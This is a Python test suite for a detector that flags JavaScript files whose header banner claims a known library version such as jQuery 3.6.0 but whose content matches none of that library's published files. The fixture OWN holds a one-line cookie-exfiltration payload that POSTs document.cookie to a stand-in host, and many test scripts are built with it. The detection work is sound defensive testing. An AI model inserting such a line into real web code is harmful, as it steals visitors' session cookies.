"""A script that says which library it is, and is none of its known files, is called a modified copy."""

import re
from collections.abc import Callable
from typing import Final

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from skimtrace.data import data_folder, load_yaml
from skimtrace.javascript.libraries import files_of, read_table, table_file
from skimtrace.javascript.library_banners import HEAD, TIMES, Banner, Banners, Claim, head_lines, modified_copy

ROWS: Final = load_yaml(data_folder() / "libraries" / "banners.yaml", Banners).banners
OWN = "\nfetch('https://collector.example/', {method: 'POST', body: document.cookie});\n"
JQUERY = Claim("jquery", "3.6.0")


@pytest.mark.parametrize(
    ("head", "claim"),
    [
        ("/*! jQuery v3.6.0 | (c) OpenJS Foundation */", JQUERY),
        ("\ufeff/*!\r\n * jQuery JavaScript Library v3.6.0\r\n * https://jquery.com/\r\n */", JQUERY),
        ("/* eslint-disable */\n\n/*!\n * jQuery JavaScript Library v3.6.0 -ajax,-effects\n */", JQUERY),
        ("// JQUERY V3.6.0", JQUERY),
        ("/*! jQuery UI - v1.12.1 - 2016-09-14\n* http://jqueryui.com */", Claim("jquery-ui-dist", "1.12.1")),
        ("/** @license React v16.13.1\n * react.production.min.js\n */", Claim("react", "16.13.1")),
        ("/** @license React v16.13.1\n * react-dom.production.min.js\n */", Claim("react-dom", "16.13.1")),
        ("/**\n * @license React\n * react.development.js\n */var ReactVersion = '18.2.0';", Claim("react", "18.2.0")),
        ("/**\n * @license\n * Lodash <https://lodash.com/>\n */;(function(){var VERSION = '4.17.21';",
         Claim("lodash", "4.17.21")),
        ("//! moment.js\n//! version : 2.29.1\n//! license : MIT", Claim("moment", "2.29.1")),
        ("/*!\n  * Bootstrap v5.0.0-beta3 (https://getbootstrap.com/)\n  */", Claim("bootstrap", "5.0.0-beta3")),
        ("/*!\n * Vue.js v2.6.12\n */", Claim("vue", "2.6.12")),
        ("/* axios v0.21.1 | (c) 2020 by Matt Zabriskie */", Claim("axios", "0.21.1")),
        ("(function (g, f) { f(g); })(this, function (m) {\n  /* webextension-polyfill - v0.10.0 - Fri */",
         Claim("webextension-polyfill", "0.10.0")),
    ],
)  # fmt: skip
def test_what_a_script_says_at_its_head_is_what_it_is_called(head: str, claim: Claim) -> None:
    assert modified_copy((head + OWN).encode()) == claim


@pytest.mark.parametrize(
    "script",
    [
        "",
        OWN,
        "/*! jQuery v3.99.0 */" + OWN,  # there is no such version
        "/*! jQuery v2.0.0 */" + OWN,  # the table has one file of it, and may lack others
        "/*! jQuery v3.6.0pre */" + OWN,
        "/*! jQuery v3.6.0.1 */" + OWN,
        "/*! jQuery v3.6 */" + OWN,
        "/*! needs jQuery v3.6.0 */" + OWN,
        "/*! My plugin\n * for jQuery v3.6.0 */" + OWN,
        "'/*! jQuery v3.6.0 */'" + OWN,
        "start();/*! jQuery v3.6.0 */" + OWN,  # a bundle that holds it
        "/*" + " " * HEAD + "*/\n/*! jQuery v3.6.0 */" + OWN,
        "/*! jQuery v3.6.0 */" + OWN + "/*!\n * Vue.js v2.6.12\n */" + OWN,  # one file after the other
        "/*! jQuery v3.6.0 */" + "a();" * 150_000,
        "(function () {\n" + " " * HEAD + "/* webextension-polyfill - v0.10.0 */",
    ],
)
def test_what_says_nothing_comparable_at_its_head_is_not_called_modified(script: str) -> None:
    assert modified_copy(script.encode()) is None


def test_what_is_twice_as_large_as_the_largest_file_is_a_bundle() -> None:
    row = next(row for row in ROWS if row.lines == ("jQuery v{version}",))
    head = b"/*! jQuery v3.6.0 */"
    size = TIMES * row.largest - len(head)
    assert modified_copy(head + b";" * size) == JQUERY
    assert modified_copy(head + b";" * (size + 1)) is None


def test_a_library_that_published_files_hold_is_no_further_one() -> None:
    head = "/*!\n * Bootstrap v4.4.1 (https://getbootstrap.com/)\n */" + OWN
    assert modified_copy((head + "/**\n * @popperjs/core v2.11.8\n */").encode()) == Claim("bootstrap", "4.4.1")
    assert modified_copy((head + "/*! jQuery v3.6.0 */").encode()) is None


@pytest.mark.parametrize(
    ("text", "wrapped", "lines"),
    [
        ("/* a\n * b */ // c\n/*! @license d */code /* e */", False, ["a", "b", "c", "d"]),
        ("code /* a */ code // b\ncode", True, ["a", "b"]),
        ("/* never closed", False, ["never closed"]),
        ("// no end", False, ["no end"]),
        ("/*/ a */", False, ["a"]),
        ("code", True, []),
    ],
)
def test_the_comments_that_a_script_opens_with(text: str, wrapped: bool, lines: list[str]) -> None:
    assert head_lines(text.encode(), wrapped=wrapped) == lines


@given(st.binary(max_size=400) | st.text(alphabet="/*!\n jQuery v3.60-a@", max_size=60).map(str.encode))
@example(b"/*! jQuery v3.6.0 */")
@example(b"/*! jQuery v\xff.6.0 */")
def test_whatever_follows_the_head_changes_nothing(data: bytes) -> None:
    assert modified_copy(b"own();" + data) is None
    assert modified_copy(b"/*! jQuery v3.6.0 */own();" + data) == JQUERY


LONG: Final[dict[str, Callable[[int], bytes]]] = {
    "openings": lambda n: b"/*! jQuery v3.6.0 */" + b"/*" * (n // 2),
    "banners": lambda n: b"/*! jQuery v3.6.0 */" + b"/*! jQuery v" * (n // 12),
    "white space": lambda n: b"/*! jQuery v3.6.0 */" + b"/*  " * (n // 4),
}


@pytest.mark.parametrize("name", LONG)
def test_half_a_megabyte_of_what_banners_begin_like(name: str) -> None:
    assert modified_copy(LONG[name](500_000)) == JQUERY


def test_versions_are_looked_for_in_all_of_a_script_of_any_form() -> None:
    head = b"/**\n * @license\n * Lodash <https://lodash.com/>\n */"
    assert modified_copy(head + b'="1.' * 200_000) is None


# -- the packaged rows -------------------------------------------------------------------------------------------------


def test_every_row_speaks_of_a_library_of_the_table() -> None:
    names = {row.split(",")[1] for row in read_table(table_file()).values()}
    assert [name for row in ROWS for name in (row.library, *row.also, *row.holds) if name not in names] == []
    assert {
        "jquery",
        "react",
        "react-dom",
        "vue",
        "bootstrap",
        "lodash",
        "axios",
        "moment",
        "webextension-polyfill",
    } <= {row.library for row in ROWS}


def test_files_of_a_version_are_counted() -> None:
    assert files_of("jquery", "3.6.0") >= 4
    assert files_of("jquery", "3.6") == 0
    assert files_of("query", "3.6.0") == 0


@pytest.mark.parametrize(
    ("lines", "version"),
    [([], []), (["a"], []), (["a {version}"], ["b {version}"]), (["{version} {version}"], []), (["a"], ["b"])],
)
def test_a_row_that_tells_no_version_or_two_is_refused(lines: list[str], version: list[str]) -> None:
    row = {"library": "a", "lines": lines, "version": version, "largest": 1}
    with pytest.raises(msgspec.ValidationError, match=re.escape("one line tells the version, or each text")):
        msgspec.convert(row, Banner)
